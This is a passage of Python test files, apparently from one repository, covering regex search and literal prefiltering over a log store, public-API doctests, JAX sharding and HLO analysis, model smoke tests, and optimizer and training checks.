    "İstanbul region latency high",  # U+0130 lowers to "i" + combining dot
    "ıstanbul fallback mirror",  # U+0131 dotless i matches "I" under re.I
    "la niña cluster rebalanced",  # non-ASCII line, ASCII-matchable parts
    "ΣΥΣΤΗΜΑ halted",  # Greek line (final sigma trap)
    "debug: heartbeat ok",
    "debug: heartbeat late by 250ms",
    "user=alice action=login ok",
    "user=bob action=logout ok",
    "user=carol action=login failed",
    "connection timeout after 30s error",
    "conn reset",
    "panic: kernel BUG at mm/slab.c:123",
    "wakeup  double  spaced  tokens",
    "trailing space line ",
    " leading space line",
    "tab\tseparated\tfields here",
    "123 456 789 numeric soup",
    "x" * 300 + " long line tail marker",
    "empty-adjacent",
    "",
    "MixedCase ErrorCode E404 served",
    "errorerror doubled literal",
    "[error] bracketed level tag",
    "final line without newline",
]

GROUPS = ["app", "db", "web"]


# ≥ 40 patterns: (pattern, flags) — curated to hit extraction corner cases
PATTERNS: "list[tuple[str, int]]" = [
    # plain literals and case
    (r"error", 0),
    (r"error", re.IGNORECASE),
    (r"ERROR", 0),
    (r"Error", re.IGNORECASE | re.ASCII),
    # alternation — every branch must contribute
    (r"ERROR|WARN", 0),
    (r"error|warn|panic", re.IGNORECASE),
    (r"a|error", 0),  # 1-char branch: no usable prefilter
    (r"(login|logout)", 0),
    (r"conn(ection)? timeout", 0),
    # concatenation cross products
    (r"user=(alice|bob) action=", 0),
    (r"(GET|POST) /api/v[12]/users", 0),
    (r"debug: heartbeat (ok|late)", 0),
    # anchors
    (r"^ERROR", 0),
    (r"^debug:", 0),
    (r"tag$", 0),
    (r"^conn reset$", 0),
    (r"^$", 0),  # matches only the empty line
    (r"marker$", 0),
    # \b and \B
    (r"\berror\b", 0),
    (r"\berror\b", re.IGNORECASE),
    (r"\Brror\b", 0),
    (r"\bconn\d+\b", 0),
    # bounded repetition
    (r"conn\d{2} reset", 0),
    (r"x{250,}", 0),
    (r"(error){2}", 0),
    (r"\d{3} \d{3} \d{3}", 0),
    (r"o{2,3}", 0),  # short literal: degrades to scan
    # char classes
    (r"[eE]rror", 0),
    (r"[0-9]+ms", 0),
    (r"mm/slab\.c:[0-9]+", 0),
    (r"[^a-z]panic", 0),
    (r"action=log[io][nu]t?", 0),
    # IGNORECASE casefold traps
    (r"290k", re.IGNORECASE),  # must still match the KELVIN SIGN line
    (r"istanbul", re.IGNORECASE),  # U+0130/U+0131 lines match via re folds
    (r"istanbul", re.IGNORECASE | re.ASCII),
    (r"IstanBUL", re.IGNORECASE),
    # non-ASCII needles and lines
    (r"niña", 0),
    (r"ΣΥ", 0),
    (r"niña|nina", re.IGNORECASE),
    # degenerate / no-literal patterns (fallback scan, still exact)
    (r".*", 0),
    (r"\d+", 0),
    (r"\w+@\w+", 0),
    (r"^\s*$", 0),
    (r"(?:)", 0),
    # lookarounds — literals inside are required but zero-width
    (r"(?=.*error)(?=.*timeout)", 0),
    (r"conn(?=\d)", 0),
    (r"(?<=user=)alice", 0),
    (r"heartbeat(?! ok)", 0),
    # string anchors: slab-unsafe, must take the per-line path
    (r"\Aerror", re.IGNORECASE),
    (r"marker\Z", 0),
    # DOTALL/MULTILINE interplay
    (r"disk.full", re.DOTALL),
    (r"^warn", re.MULTILINE),
    # whitespace and tabs
    (r"tab\tseparated", 0),
    (r"double\s+spaced", 0),
    (r"trailing space line $", 0),
]

assert len(PATTERNS) >= 40


def _oracle(pat: str, flags: int, visible: "list[tuple[str, str]]") -> list[str]:
    """Brute-force truth: ``re.search`` over every visible line, in the
    store's own visible order (batch-id order via ``iter_lines``)."""
    rx = re.compile(pat, flags)
    return [line for line, _src in visible if rx.search(line)]


def _fill(store, lines=CORPUS) -> None:
    for i, line in enumerate(lines):
        store.ingest(line, GROUPS[i % len(GROUPS)])


def _check_all(view, visible) -> None:
    """Byte-identical equality for every pattern, via one search_many call
    (mixed-batch planning is the production shape)."""
    queries = [Regex(p, f) for p, f in PATTERNS]
    results = view.search_many(list(queries))
    for (pat, flags), res in zip(PATTERNS, results):
        want = _oracle(pat, flags, visible)
        assert res.lines == want, (
            f"divergence for {pat!r} flags={flags}: got {res.lines!r}, "
            f"want {want!r}"
        )


@pytest.mark.parametrize("kind", sorted(STORE_CLASSES))
class TestRegexOracle:
    def test_finished_store(self, kind):
        st = create_store(kind)
        _fill(st)
        st.finish()
        snap = st.snapshot()
        _check_all(st, list(snap.iter_lines()))

    def test_mid_ingest(self, kind):
        st = create_store(kind)
        _fill(st)
        # no finish(): part of the corpus is still in the writer/tail, so
        # planning must degrade gracefully and tail lines go through the
        # raw-line matcher
        snap = st.snapshot()
        _check_all(snap, list(snap.iter_lines()))

    def test_mmap_reopened(self, kind, tmp_path):
        path = tmp_path / kind
        st = create_store(kind, path=path)
        _fill(st)
        st.finish()
        st.close()
        st2 = open_store(path)
        try:
            snap = st2.snapshot()
            _check_all(st2, list(snap.iter_lines()))
        finally:
            st2.close()

    def test_forced_scan_matches_prefiltered(self, kind):
        """prefilter=False is the same exact result through the scan path."""
        st = create_store(kind)
        _fill(st)
        st.finish()
        for pat, flags in PATTERNS[::5]:
            fast = st.search(Regex(pat, flags))
            slow = st.search(Regex(pat, flags, prefilter=False))
            assert fast.lines == slow.lines, (pat, flags)
            assert slow.fallback_scan
