"""Run the public-API doctests (docs satellite: examples that execute).

Covers the modules the docs lean on: the query AST (`core.querylang`), the
store surface (`logstore.store`: search / search_many / snapshot /
create_store) and the serving engine (`serve.engine`: SearchServer).  Each
doctest is a self-contained runnable example, so these double as the
smallest possible integration tests of the documented surface.
"""

from __future__ import annotations

import doctest
import warnings

import pytest

MODULES = [
    "repro.core.querylang",
    "repro.logstore.store",
    "repro.serve.engine",
]


@pytest.mark.parametrize("modname", MODULES)
def test_module_doctests(modname):
    mod = __import__(modname, fromlist=["_"])
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        results = doctest.testmod(
            mod, optionflags=doctest.ELLIPSIS | doctest.NORMALIZE_WHITESPACE
        )
    assert results.attempted > 0, f"{modname} has no doctests"
    assert results.failed == 0
