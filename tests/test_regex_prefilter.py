"""Literal extraction + planner shape: the Regex → Contains lowering.

Three layers:

* **unit** — ``analyze`` on curated patterns: the documented extraction
  rules (concat cross products, every-branch-must-contribute alternation,
  conservative repetition/classes, IGNORECASE fold traps, slab safety);
* **property** — random patterns from a small regex grammar over random
  corpora (hypothesis, or the deterministic fallback shim): every line
  ``re`` matches must satisfy the extracted DNF (no false negatives), i.e.
  the extracted literals are genuinely *required*;
* **planner shape** — ``Regex`` lowers to the documented And/Or-of-Contains
  plan (atom inspection), degenerate patterns register in
  ``unbounded_atoms`` and bump the server's ``n_fallback_scans``, and a
  mixed Regex/Term/Contains ``search_many`` batch shares ONE ``plan_bits``
  pass.
"""

from __future__ import annotations

import random
import re

import pytest

try:
    from hypothesis import given, settings, strategies as st
except ImportError:  # fallback random-case generator (see _hypothesis_fallback)
    from _hypothesis_fallback import given, settings, strategies as st

from repro.core.querylang import And, Contains, Or, Regex, Term, atoms, prefilter_query
from repro.core.regex_prefilter import analyze
from repro.logstore import create_store
from repro.logstore.linefilter import Slab
from repro.serve.engine import SearchServer


def dnf(pattern, flags=0):
    return analyze(pattern, flags).dnf


class TestExtractionRules:
    def test_plain_literal(self):
        assert dnf(r"error") == (("error",),)

    def test_case_folds_to_lower(self):
        assert dnf(r"ERROR") == (("error",),)
        assert dnf(r"Error", re.IGNORECASE) == (("error",),)

    def test_concat_cross_product(self):
        assert set(dnf(r"foo(bar|baz)")) == {("foobar",), ("foobaz",)}

    def test_alternation_every_branch_contributes(self):
        assert set(dnf(r"ERROR|WARN")) == {("error",), ("warn",)}

    def test_alternation_weak_branch_is_top(self):
        # "ab" yields no guaranteed-indexed gram, so the union requires ⊤
        assert dnf(r"ab|error") is None
        assert dnf(r"a|error") is None

    def test_class_expansion_small(self):
        assert set(dnf(r"v[12]/users")) == {("v1/users",), ("v2/users",)}

    def test_class_too_big_breaks_run(self):
        assert dnf(r"conn[0-9] reset") == ((" reset", "conn"),)

    def test_optional_breaks_run(self):
        assert dnf(r"colou?r") == (("colo",),)

    def test_bounded_repetition_exact(self):
        assert dnf(r"(error){2}") == (("errorerror",),)

    def test_unbounded_repetition_requires_min(self):
        assert dnf(r"x{3,}") == (("xxx",),)

    def test_star_contributes_nothing(self):
        assert dnf(r"\d*error") == (("error",),)
        assert dnf(r".*") is None

    def test_lookaround_literals_required(self):
        assert dnf(r"(?=.*error)(?=.*timeout)") == (("error", "timeout"),)

    def test_backreference_degrades(self):
        assert dnf(r"(error)\1") == (("error",),)

    def test_newline_branch_is_dead(self):
        assert dnf(r"err\nor") == ()
        assert dnf(r"foo\nbar|quux") == (("quux",),)

    def test_ignorecase_i_s_break_runs(self):
        # ı (U+0131) matches "i" and ſ (U+017F) matches "s" under re.I, but
        # neither str.lower()s to ASCII — so i/s can't anchor a literal
        assert dnf(r"istanbul", re.IGNORECASE) == (("tanbul",),)
        assert dnf(r"istanbul", re.IGNORECASE | re.ASCII) == (("istanbul",),)
        assert dnf(r"istanbul") == (("istanbul",),)

    def test_ignorecase_kelvin_is_safe(self):
        # U+212A KELVIN str.lower()s to "k" on both sides, so "k" survives —
        # but "i" still breaks the run (U+0131), leaving the "kelv" prefix
        assert dnf(r"kelvin", re.IGNORECASE) == (("kelv",),)
        assert dnf(r"290k", re.IGNORECASE) == (("290k",),)

    def test_non_ascii_breaks_literal(self):
        assert dnf(r"niña cluster") == (("a cluster", "ni"),) or dnf(
            r"niña cluster"
        ) == (("a cluster",),)

    def test_inline_flags_respected(self):
        assert dnf(r"(?i)istanbul") == (("tanbul",),)


class TestSlabSafety:
    def safe(self, pattern, flags=0):
        return analyze(pattern, flags).slab_safe

    def test_plain_literals_safe(self):
        assert self.safe(r"error")
        assert self.safe(r"^\[error\] x$")
        assert self.safe(r"\berror\b")
        assert self.safe(r"conn\d+")

    def test_newline_literal_unsafe(self):
        assert not self.safe(r"err\nor")

    def test_string_anchors_unsafe(self):
        assert not self.safe(r"\Aerror")
        assert not self.safe(r"error\Z")

    def test_dotall_unsafe(self):
        assert not self.safe(r"a.b", re.DOTALL)
        assert not self.safe(r"(?s)a.b")
        assert self.safe(r"a.b")  # plain "." excludes \n

    def test_newline_matching_classes_unsafe(self):
        assert not self.safe(r"a\sb")  # \s includes \n
        assert not self.safe(r"[^x]")  # negated class includes \n
        assert not self.safe(r"a\Db")
        assert self.safe(r"a[ \t]b")
        assert self.safe(r"\d+\w+")

    def test_lookaround_peeking_at_newline_unsafe(self):
        assert not self.safe(r"x(?=\n)")
        assert not self.safe(r"x(?!\s)")
        assert self.safe(r"x(?=\d)")

    def test_multiline_removal_unsafe(self):
        assert not self.safe(r"(?-m:^err)", re.MULTILINE)


# -- property layer: random patterns × random corpora ----------------------------------

_WORDS = ["error", "warn", "conn", "reset", "timeout", "users", "debug", "ok"]
_TRAPS = ["290K outside", "İstanbul", "ıstanbul", "meſsage", "niña"]


def _gen_pattern(rng: random.Random, depth: int = 0) -> str:
    """A pattern from a small grammar biased toward extraction corner cases."""
    if depth >= 2:
        return rng.choice(_WORDS)
    roll = rng.random()
    if roll < 0.35:
        return rng.choice(
            _WORDS
            + [r"\d+", r"\w+", r"[0-9]{2}", r"[eE]rror", r"co?nn", r"x{2,4}", "."]
        )
    if roll < 0.55:
        return _gen_pattern(rng, depth + 1) + _gen_pattern(rng, depth + 1)
    if roll < 0.75:
        return "(%s|%s)" % (
            _gen_pattern(rng, depth + 1),
            _gen_pattern(rng, depth + 1),
        )
    if roll < 0.85:
        return "(%s)%s" % (_gen_pattern(rng, depth + 1), rng.choice("?*+"))
    if roll < 0.95:
        return "^" + _gen_pattern(rng, depth + 1)
    return _gen_pattern(rng, depth + 1) + "$"


def _gen_line(rng: random.Random) -> str:
    n = rng.randint(0, 6)
    parts = [
        rng.choice(_WORDS + _TRAPS + [str(rng.randint(0, 9999)), "x" * rng.randint(1, 5)])
        for _ in range(n)
    ]
    line = " ".join(parts)
    if rng.random() < 0.3:
        line = line.upper()
    return line


@settings(max_examples=60, deadline=None)
@given(st.integers(min_value=0, max_value=2**31))
def test_fuzz_no_false_negatives(seed):
    """Every line ``re`` matches satisfies the extracted DNF — the literals
    are genuinely required — under random patterns, flags and corpora."""
    rng = random.Random(seed)
    pattern = _gen_pattern(rng)
    flags = rng.choice([0, re.IGNORECASE, re.IGNORECASE | re.ASCII])
    info = analyze(pattern, flags)
    rx = re.compile(pattern, flags)
    lines = [_gen_line(rng) for _ in range(40)]
    for line in lines:
        if rx.search(line) is None:
            continue
        if info.dnf is None:
            continue  # no prefilter claimed: trivially sound
        folded = line.lower()
        assert any(
            all(lit in folded for lit in branch) for branch in info.dnf
        ), f"false negative: pattern={pattern!r} flags={flags} line={line!r} dnf={info.dnf}"


@settings(max_examples=40, deadline=None)
@given(st.integers(min_value=0, max_value=2**31))
def test_fuzz_slab_scan_matches_per_line(seed):
    """For slab-safe patterns, ``Slab.regex_lines`` over the joined slab is
    identical to per-line ``re.search`` on every ASCII line (non-ASCII lines
    are re-checked by the exact matcher in production, so they're exempt)."""
    rng = random.Random(seed)
    pattern = _gen_pattern(rng)
    flags = rng.choice([0, re.IGNORECASE])
    info = analyze(pattern, flags)
    if not info.slab_safe:
        return
    rx_line = re.compile(pattern, flags)
    rx_slab = re.compile(pattern, flags | re.MULTILINE)
    lines = [_gen_line(rng) for _ in range(30)]
    slab = Slab(["\n".join(lines).encode("utf-8")], ["g"])
    got = slab.regex_lines(rx_slab)
    for i, line in enumerate(lines):
        if not line.isascii():
            continue
        assert bool(got[i]) == (rx_line.search(line) is not None), (
            f"slab/per-line divergence: pattern={pattern!r} flags={flags} "
            f"line {i}={line!r}"
        )


# -- planner shape ---------------------------------------------------------------------


class TestPlannerShape:
    def test_lowering_is_or_of_and_of_contains(self):
        q = prefilter_query(Regex(r"foo(bar|baz)"))
        assert isinstance(q, Or)
        assert {c.children[0].text for c in q.children} == {"foobar", "foobaz"}
        assert all(
            isinstance(c, And)
            and all(isinstance(leaf, Contains) for leaf in c.children)
            for c in q.children
        )

    def test_degenerate_lowers_to_empty_contains(self):
        assert prefilter_query(Regex(r"\d+")) == Contains("")
        assert prefilter_query(Regex(r".*")) == Contains("")
        assert prefilter_query(Regex(r"error", prefilter=False)) == Contains("")

    def test_atoms_come_from_lowering(self):
        assert atoms(Regex("ERROR|WARN")) == [("error", True), ("warn", True)]
        assert atoms(Regex(r"\w+")) == [("", True)]

    @pytest.mark.parametrize("kind", ["copr", "sharded", "csc", "scan"])
    def test_degenerate_registers_unbounded(self, kind):
        st_ = create_store(kind)
        for i in range(50):
            st_.ingest(f"line {i} error code {i % 7}", "app")
        st_.finish()
        view = st_.snapshot()
        assert (("", True)) in view.unbounded_atoms([("", True)])
        res = st_.search(Regex(r"\d+"))
        assert res.fallback_scan
        assert len(res.lines) == 50
        bounded = st_.search(Regex(r"error code 3"))
        assert bounded.fallback_scan == (kind == "scan")

    def test_server_counts_fallback_scans(self):
        st_ = create_store("copr")
        for i in range(20):
            st_.ingest(f"request {i} served", "web")
        st_.finish()
        srv = SearchServer(st_, max_batch=8)
        r1 = srv.submit(Regex(r"\d+"))  # degenerate: fallback
        r2 = srv.submit(Regex(r"request served"))  # literal-bearing: planned
        out = srv.run()
        assert srv.n_fallback_scans == 1
        assert out[r1] == [f"request {i} served" for i in range(20)]
        assert out[r2] == []

    def test_mixed_batch_shares_one_plan_pass(self, monkeypatch):
        st_ = create_store("copr")
        for i in range(60):
            st_.ingest(f"evt {i} error={i % 3} warn={i % 5}", "app")
        st_.finish()
        view = st_.snapshot()
        calls = []
        orig = type(view).plan_bits

        def counting(self, atom_keys):
            calls.append(list(atom_keys))
            return orig(self, atom_keys)

        monkeypatch.setattr(type(view), "plan_bits", counting)
        results = view.search_many(
            [Regex(r"error=(1|2)"), Term("warn"), Contains("evt 1"), Regex(r"evt \d+")]
        )
        assert len(calls) == 1, "mixed batch must plan through ONE plan_bits pass"
        merged = calls[0]
        # the Regex queries' extracted literal atoms share the merged pass
        assert ("error=1", True) in merged and ("error=2", True) in merged
        assert ("warn", False) in merged and ("evt 1", True) in merged
        assert ("evt ", True) in merged or ("", True) in merged
        truth = [f"evt {i} error={i % 3} warn={i % 5}" for i in range(60)]
        assert results[0].lines == [l for l in truth if re.search(r"error=(1|2)", l)]
        assert results[3].lines == truth
