"""Launch-layer tests that do not need 512 devices: cell building, sharding
rule resolution, HLO analysis on synthetic modules, roofline math."""


import pytest
from jax.sharding import PartitionSpec as P

from repro.configs.base import all_cells, get_arch, list_archs
from repro.launch.hlo_analysis import (
    _shape_bytes,
    collective_bytes,
    executed_flops_bytes,
)
from repro.launch.mesh import make_smoke_mesh
from repro.launch.roofline import analyze_record
from repro.models.sharding import ShardingRules, filter_spec_by_shape


def test_forty_cells_defined():
    cells = all_cells()
    assert len(cells) == 40
    per_arch = {}
    for a, s in cells:
        per_arch.setdefault(a, []).append(s)
    assert all(len(v) == 4 for v in per_arch.values())


def test_rules_resolution_and_pod_widening():
    rules = ShardingRules()
    mesh1 = make_smoke_mesh()
    spec = rules.spec("batch", "seq", mesh=mesh1)
    assert spec == P("data", None)
    # without a pod axis nothing widens; duplicate axes dropped
    spec2 = rules.spec("mlp", "mlp", mesh=mesh1)
    flat = [a for e in spec2 if e for a in (e if isinstance(e, tuple) else (e,))]
    assert len(flat) == len(set(flat))


def test_filter_spec_by_shape_drops_nondividing_axes():
    # AbstractMesh: no real devices needed for spec arithmetic
    from repro.launch.mesh import compat_abstract_mesh

    mesh = compat_abstract_mesh((2, 2), ("data", "tensor"))
    spec = filter_spec_by_shape(P(("data", "tensor"), None), (6, 5), mesh)
    assert spec == P("data", None)  # 6 % 4 != 0 → keep only the 2-divisor prefix
    spec2 = filter_spec_by_shape(P("tensor"), (3,), mesh)
    assert spec2 == P(None)


def test_shape_bytes_parser():
    assert _shape_bytes("bf16[128,4096]") == 128 * 4096 * 2
    assert _shape_bytes("(f32[2,2]{1,0}, u8[3])") == 16 + 3
    assert _shape_bytes("f32[]") == 4


def test_collective_parser_on_synthetic_hlo():
    hlo = """
ENTRY %main (p: f32[8]) -> f32[8] {
  %ag = f32[1024,512]{1,0} all-gather(%x), replica_groups=[8,16]<=[128], dimensions={0}
  %ar = bf16[256]{0} all-reduce(%y), replica_groups={{0,1,2,3}}, to_apply=%add
}
"""
    stats = collective_bytes(hlo)
    ag = 1024 * 512 * 4 * (15 / 16)
    ar = 2 * 256 * 2 * (3 / 4)
    assert stats.bytes_by_kind["all-gather"] == pytest.approx(ag)
    assert stats.bytes_by_kind["all-reduce"] == pytest.approx(ar)


def test_executed_flops_counts_loop_trips():
    hlo = """
ENTRY %main (p: f32[128,64]) -> f32[128,64] {
  %w = (s32[], f32[128,64]) while(%t), condition=%cond, body=%body, backend_config={"known_trip_count":{"n":"10"}}
}
%body (arg: (s32[], f32[128,64])) -> (s32[], f32[128,64]) {
  %a = f32[128,64]{1,0} parameter(0)
  %d = f32[128,128]{1,0} dot(%a, %a), lhs_contracting_dims={1}, rhs_contracting_dims={1}
}
%cond (arg: (s32[], f32[128,64])) -> pred[] {
  %c = pred[] constant(true)
}
"""
    ex = executed_flops_bytes(hlo)
    # dot: 2 * 128*128 out * 64 contract, ×10 trips
    assert ex["executed_flops"] == pytest.approx(2 * 128 * 128 * 64 * 10)


def test_roofline_record_analysis():
    rec = {
        "status": "ok",
        "arch": "a",
        "shape": "s",
        "mesh": "pod",
        "chips": 128,
        "model_flops": 1e15,
        "executed": {"executed_flops": 667e12 * 0.5, "executed_bytes": 1.2e12 * 0.1},
        "collectives": {"total_bytes": 46e9 * 8 * 0.01},
    }
    row = analyze_record(rec)
    assert row.dominant == "compute"
    assert row.compute_s == pytest.approx(0.5)
    assert row.memory_s == pytest.approx(0.1)
    assert row.collective_s == pytest.approx(0.01)
    assert row.roofline_fraction == 1.0
    assert row.useful_ratio == pytest.approx(1e15 / (667e12 * 0.5 * 128))


@pytest.mark.parametrize("arch_id", list_archs())
def test_cells_build_on_smoke_mesh(arch_id):
    """Every (arch × shape) builds + lowers on a 1-device mesh (smoke dims)."""
    arch = get_arch(arch_id)
    mesh = make_smoke_mesh()
    from repro.launch.cells import build_cell

    with mesh:
        for cell in arch.shapes:
            built = build_cell(arch, cell, mesh, smoke=True)
            lowered = built.lower()
            assert lowered is not None
            assert built.model_flops > 0
