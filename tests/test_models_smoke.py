"""Per-architecture smoke tests (deliverable f): reduced configs, one
forward/train step on CPU, output shapes + no NaNs.  One test per assigned
arch × its train-capable path, plus decode for LM archs."""

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from repro.configs.base import get_arch, list_archs
from repro.launch.mesh import make_smoke_mesh
from repro.launch.train import _specs_for, synth_batch
from repro.models.params import init_params
from repro.train import adamw_init
from repro.launch.cells import build_cell, _opt_cfg

LM_ARCHS = ["gemma2-9b", "olmo-1b", "llama3-8b", "phi3.5-moe-42b-a6.6b", "arctic-480b"]
ALL_ARCHS = list_archs()


def test_all_ten_archs_registered():
    assert len(ALL_ARCHS) == 10
    assert set(LM_ARCHS).issubset(ALL_ARCHS)


@pytest.mark.parametrize("arch_id", ALL_ARCHS)
def test_smoke_train_step(arch_id):
    """Reduced config: one real optimizer step, finite loss, shapes intact."""
    arch = get_arch(arch_id)
    cell = next(s for s in arch.shapes if s.kind == "train")
    mesh = make_smoke_mesh()
    rng = np.random.default_rng(0)
    with mesh:
        built = build_cell(arch, cell, mesh, smoke=True)
        cfg = arch.make_smoke_config()
        params = init_params(jax.random.key(0), _specs_for(arch, cfg), jnp.float32)
        opt = adamw_init(params, _opt_cfg(arch))
        batch = synth_batch(arch, cell, cfg, rng, smoke=True)
        p2, opt2, metrics = jax.jit(built.fn)(params, opt, batch)
        assert np.isfinite(float(metrics["loss"])), arch_id
        # params actually changed
        l0 = jax.tree.leaves(params)[0]
        l1 = jax.tree.leaves(p2)[0]
        assert l0.shape == l1.shape
        assert not np.allclose(np.asarray(l0), np.asarray(l1))


@pytest.mark.parametrize("arch_id", LM_ARCHS)
def test_smoke_lm_decode_consistency(arch_id):
    """prefill-then-decode must agree with full forward at the last position."""
    from repro.models.transformer import decode_step, forward, param_specs, prefill

    arch = get_arch(arch_id)
    cfg = arch.make_smoke_config()
    params = init_params(jax.random.key(1), param_specs(cfg), jnp.float32)
    toks = jax.random.randint(jax.random.key(2), (2, 12), 0, cfg.vocab)
    logits_full, _aux = jax.jit(lambda p, t: forward(p, t, cfg))(params, toks)
    logits_pre, cache = jax.jit(lambda p, t: prefill(p, t, cfg, max_seq=16))(params, toks)
    np.testing.assert_allclose(
        np.asarray(logits_pre), np.asarray(logits_full[:, -1]), rtol=3e-3, atol=3e-3
    )
    logits_dec, cache2 = jax.jit(lambda p, c, t: decode_step(p, c, t, cfg))(
        params, cache, toks[:, -1]
    )
    assert logits_dec.shape == (2, cfg.vocab)
    assert np.isfinite(np.asarray(logits_dec)).all()
    assert int(cache2["len"]) == int(cache["len"]) + 1


@pytest.mark.parametrize("arch_id", ["sasrec", "mind", "two-tower-retrieval"])
def test_smoke_retrieval(arch_id):
    from repro.models import recsys as rec

    arch = get_arch(arch_id)
    cfg = arch.make_smoke_config()
    params = init_params(jax.random.key(3), _specs_for(arch, cfg), jnp.float32)
    rng = np.random.default_rng(3)
    n_items = cfg.n_items
    cand = jnp.arange(min(64, n_items))
    if arch_id == "two-tower-retrieval":
        batch = {
            "user_id": jnp.zeros((1,), jnp.int32),
            "history": jnp.asarray(rng.integers(0, n_items, (1, cfg.history_len)), jnp.int32),
            "candidates": cand,
        }
        vals, ids = rec.twotower_retrieve(params, batch, cfg, top_k=5)
    else:
        batch = {
            "history": jnp.asarray(rng.integers(0, n_items, (1, cfg.seq_len)), jnp.int32),
            "candidates": cand,
        }
        fn = rec.sasrec_retrieve_scores if arch_id == "sasrec" else rec.mind_retrieve_scores
        vals, ids = fn(params, batch, cfg, top_k=5)
    assert vals.shape == (1, 5)
    assert np.isfinite(np.asarray(vals)).all()
    # scores sorted descending
    v = np.asarray(vals)[0]
    assert (np.diff(v) <= 1e-6).all()


def test_blockwise_attention_matches_dense():
    from repro.models.layers import blockwise_attention, dense_attention

    rng = jax.random.key(4)
    q = jax.random.normal(rng, (2, 64, 4, 16))
    k = jax.random.normal(jax.random.key(5), (2, 64, 2, 16))
    v = jax.random.normal(jax.random.key(6), (2, 64, 2, 16))
    a = dense_attention(q, k, v)
    b = blockwise_attention(q, k, v, block_kv=16)
    np.testing.assert_allclose(np.asarray(a), np.asarray(b), rtol=2e-3, atol=2e-3)
    # sliding window variants agree too
    aw = dense_attention(q, k, v, window=24)
    bw = blockwise_attention(q, k, v, block_kv=16, window=24)
    np.testing.assert_allclose(np.asarray(aw), np.asarray(bw), rtol=2e-3, atol=2e-3)


def test_moe_scatter_matches_einsum():
    """The two dispatch lowerings must agree (modulo capacity-drop order)."""
    from repro.models.moe import MoeDims, moe_ffn_einsum, moe_ffn_scatter
    from repro.models.params import init_params as ip, ParamSpec

    d, f, e = 16, 32, 4
    key = jax.random.key(7)
    specs = {
        "router": ParamSpec((d, e), (None, None)),
        "w_gate": ParamSpec((e, d, f), (None, None, None)),
        "w_up": ParamSpec((e, d, f), (None, None, None)),
        "w_down": ParamSpec((e, f, d), (None, None, None)),
    }
    params = ip(key, specs, jnp.float32)
    x = jax.random.normal(jax.random.key(8), (64, d))
    dims = MoeDims(e, 2, capacity_factor=4.0)  # big capacity: nothing drops
    y1, a1 = moe_ffn_scatter(x, params, dims)
    y2, a2 = moe_ffn_einsum(x, params, dims)
    np.testing.assert_allclose(np.asarray(y1), np.asarray(y2), rtol=1e-4, atol=1e-4)
    np.testing.assert_allclose(float(a1), float(a2), rtol=1e-5)


def test_gnn_permutation_invariance():
    """segment_sum message passing must be edge-order invariant."""
    from repro.models.gnn import MeshGraphNetConfig, meshgraphnet_forward, meshgraphnet_param_specs

    cfg = MeshGraphNetConfig(n_layers=2, d_hidden=8, d_node_in=4, d_edge_in=4, d_out=2)
    params = init_params(jax.random.key(9), meshgraphnet_param_specs(cfg), jnp.float32)
    rng = np.random.default_rng(9)
    n, e = 10, 30
    batch = {
        "node_feat": jnp.asarray(rng.normal(size=(n, 4)), jnp.float32),
        "edge_feat": jnp.asarray(rng.normal(size=(e, 4)), jnp.float32),
        "senders": jnp.asarray(rng.integers(0, n, e), jnp.int32),
        "receivers": jnp.asarray(rng.integers(0, n, e), jnp.int32),
    }
    out1 = meshgraphnet_forward(params, batch, cfg)
    perm = rng.permutation(e)
    batch2 = dict(batch)
    for k in ("edge_feat", "senders", "receivers"):
        batch2[k] = batch[k][perm]
    out2 = meshgraphnet_forward(params, batch2, cfg)
    np.testing.assert_allclose(np.asarray(out1), np.asarray(out2), rtol=1e-4, atol=1e-5)


def test_embedding_bag_matches_manual():
    from repro.models.embedding import embedding_bag, embedding_bag_fixed

    table = jnp.asarray(np.random.default_rng(0).normal(size=(20, 4)), jnp.float32)
    idx = jnp.asarray([1, 2, 3, 4, 5, 6], jnp.int32)
    offsets = jnp.asarray([0, 2, 3], jnp.int32)  # bags [1,2], [3], [4,5,6]
    out = embedding_bag(table, idx, offsets, mode="sum")
    want = np.stack(
        [np.asarray(table)[[1, 2]].sum(0), np.asarray(table)[3], np.asarray(table)[[4, 5, 6]].sum(0)]
    )
    np.testing.assert_allclose(np.asarray(out), want, rtol=1e-6)
    fixed = embedding_bag_fixed(table, jnp.asarray([[1, 2], [3, 3]]), mode="mean")
    want2 = np.stack([np.asarray(table)[[1, 2]].mean(0), np.asarray(table)[3]])
    np.testing.assert_allclose(np.asarray(fixed), want2, rtol=1e-6)
