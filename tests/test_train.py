"""Training substrate: optimizer math, microbatch equivalence, grad
compression error feedback, checkpoint durability + elastic restore."""

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from repro.models.params import init_params
from repro.models.transformer import LMConfig, lm_loss, param_specs
from repro.train import (
    AdamWConfig,
    StepConfig,
    adamw_init,
    adamw_update,
    compress_with_feedback,
    dequantize_int8,
    latest_step,
    make_train_step,
    quantize_int8,
    restore_latest,
    save_checkpoint,
)


@pytest.fixture
def tiny_lm():
    cfg = LMConfig(name="t", n_layers=2, d_model=32, n_heads=4, n_kv_heads=2, d_ff=64, vocab=128)
    params = init_params(jax.random.key(0), param_specs(cfg), jnp.float32)
    toks = jax.random.randint(jax.random.key(1), (8, 16), 0, 128)
    batch = {"tokens": toks, "labels": jnp.roll(toks, -1, axis=1)}
    return cfg, params, batch


class TestAdamW:
    def test_descends_quadratic(self):
        cfg = AdamWConfig(lr=0.1, weight_decay=0.0, warmup_steps=1)
        params = {"w": jnp.asarray([3.0, -2.0])}
        opt = adamw_init(params, cfg)
        for _ in range(120):
            grads = {"w": params["w"]}  # d/dw (w²/2)
            params, opt, _ = adamw_update(grads, opt, params, cfg)
        assert float(jnp.abs(params["w"]).max()) < 0.15

    def test_grad_clip(self):
        cfg = AdamWConfig(lr=1e-3, grad_clip=1.0, warmup_steps=1)
        params = {"w": jnp.zeros(4)}
        opt = adamw_init(params, cfg)
        _, _, m = adamw_update({"w": jnp.full(4, 1e6)}, opt, params, cfg)
        assert float(m["grad_norm"]) > 1e6 - 1

    def test_state_dtype(self):
        cfg = AdamWConfig(state_dtype=jnp.bfloat16)
        opt = adamw_init({"w": jnp.zeros(4)}, cfg)
        assert opt["m"]["w"].dtype == jnp.bfloat16


class TestMicrobatching:
    def test_accumulation_matches_single_batch(self, tiny_lm):
        cfg, params, batch = tiny_lm
        opt_cfg = AdamWConfig(lr=1e-3, warmup_steps=1)
        loss_fn = lambda p, b: lm_loss(p, b, cfg)
        s1 = make_train_step(loss_fn, opt_cfg, StepConfig(num_microbatches=1))
